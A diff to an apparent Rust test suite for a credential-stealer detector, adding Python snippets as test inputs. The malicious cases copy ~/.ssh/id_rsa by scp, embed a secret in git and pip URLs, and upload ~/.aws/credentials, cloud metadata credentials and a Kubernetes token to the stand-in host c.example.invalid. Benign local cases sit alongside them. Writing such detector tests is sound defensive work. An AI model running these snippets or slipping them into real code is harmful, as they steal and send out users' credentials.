@@ -464,6 +464,10 @@ fn new_channels_and_stores_at_import_are_stealers() {
         ("hf", "import os\nfrom huggingface_hub import HfApi\nHfApi(token='hf_x').upload_file(path_or_fileobj=os.path.expanduser('~/.aws/credentials'), path_in_repo='c', repo_id='d/d')\n".to_string()),
         ("sftp", "import os, paramiko\nt = paramiko.Transport(('c.example.invalid', 22))\nt.connect(username='u', password='p')\nparamiko.SFTPClient.from_transport(t).put(os.path.expanduser('~/.aws/credentials'), '/d/c')\n".to_string()),
         ("httphandler", format!("{read}import logging, logging.handlers\nlg = logging.getLogger('t')\nlg.addHandler(logging.handlers.HTTPHandler('c.example.invalid', '/log', method='POST'))\nlg.error(S)\n")),
+        // Programs that copy to another host (tester t14 ch13, ch18, ch23).
+        ("scp", "import os, subprocess\nsubprocess.Popen(['scp', '-q', os.path.expanduser('~/.ssh/id_rsa'), 'u@c.example.invalid:/drop/'])\n".to_string()),
+        ("gittoken", format!("{read}import subprocess\nsubprocess.run(['git', 'ls-remote', 'https://' + S + '@c.example.invalid/x.git'])\n")),
+        ("piptoken", format!("{read}import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'download', '--index-url', 'https://u:' + S + '@c.example.invalid/simple', 'zzz'])\n")),
         ("syslogremote", format!("{read}import logging, logging.handlers\nlg = logging.getLogger('t')\nlg.addHandler(logging.handlers.SysLogHandler(('c.example.invalid', 514)))\nlg.error(S)\n")),
         ("imds", format!("import urllib.request\nD = urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/role').read()\n{post}")),
         ("k8s", format!("D = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n{post}")),
@@ -486,6 +490,8 @@ fn new_channels_and_stores_at_import_are_stealers() {
         ("imdsregion", "import urllib.request\ndef region():\n    return urllib.request.urlopen('http://169.254.169.254/latest/meta-data/placement/region', timeout=1).read()\n"),
         // The local syslog (tester t14 bs06): nothing leaves the machine.
         ("sysloglocal", "import logging, logging.handlers\nlog = logging.getLogger(__name__)\nlog.addHandler(logging.handlers.SysLogHandler(address='/dev/log'))\n"),
+        ("rsynclocal", "import subprocess\nsubprocess.run(['rsync', '-a', 'build/', 'dist/'])\n"),
+        ("gitclone", "import os, subprocess\nT = os.environ.get('HOME')\nsubprocess.run(['git', 'clone', 'https://github.com/org/repo.git'])\n"),
         ("syslogdefault", "import logging.handlers\nlogging.getLogger().addHandler(logging.handlers.SysLogHandler())\n"),
     ];
     for (case, src) in benign {
